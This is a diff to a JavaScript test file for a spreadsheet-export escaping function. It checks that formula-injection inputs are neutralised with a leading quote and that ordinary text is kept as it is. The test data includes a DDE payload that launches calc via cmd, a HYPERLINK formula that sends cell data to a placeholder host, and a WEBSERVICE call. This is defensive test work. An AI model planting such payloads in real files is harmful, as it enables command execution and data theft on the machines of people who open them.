@@ -52,12 +52,39 @@ describe('columns', () => {
 });
 
 describe('cells', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://a.test?"&A1)'])(
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1', '=HYPERLINK("http://a.test?"&A1)'])(
     'makes text of %j, which a spreadsheet would run',
     (formula) => {
       expect(cell({ title: formula }, 'title')).toBe(`'${formula}`);
     },
   );
+
+  it.each([
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    [';=1', "';'=1"],
+    ['\n=1', "'\n'=1"],
+    [' \n @SUM(A1)', "' \n '@SUM(A1)"],
+    ['\u200b=1', "'\u200b=1"],
+    ['\u00a0+1', "'\u00a0+1"],
+    ['＝1+1', "'＝1+1"],
+    ['lamp;=HYPERLINK("http://a.test")', 'lamp;\'=HYPERLINK("http://a.test")'],
+    ['lamp\r\n=1+1', "lamp\r\n'=1+1"],
+    ['lamp\t=1|=2', "lamp\t'=1|'=2"],
+    ["lamp,-cmd|' /C calc'!A0", "lamp,'-cmd|' /C calc'!A0"],
+    ['lamp; +WEBSERVICE(A1)', "lamp; '+WEBSERVICE(A1)"],
+  ])('makes text of %j in every program, whatever separates cells there', (text, safe) => {
+    expect(cell({ title: text }, 'title')).toBe(safe);
+  });
+
+  it.each([
+    ['Soft cotton\n- 100 % organic (washed)\n- made by hand'],
+    ['5 = 5, a+b; x-y'],
+    ['50 x 70; -20 % off'],
+    ['mail: a@b.test, c@d.test'],
+  ])('keeps %j as it is', (text) => {
+    expect(cell({ title: text }, 'title')).toBe(text);
+  });
 
   it('makes text of a header that is a formula', () => {
     expect(table(['=cmd'], [])[0]?.[0]).toBe("'=cmd");
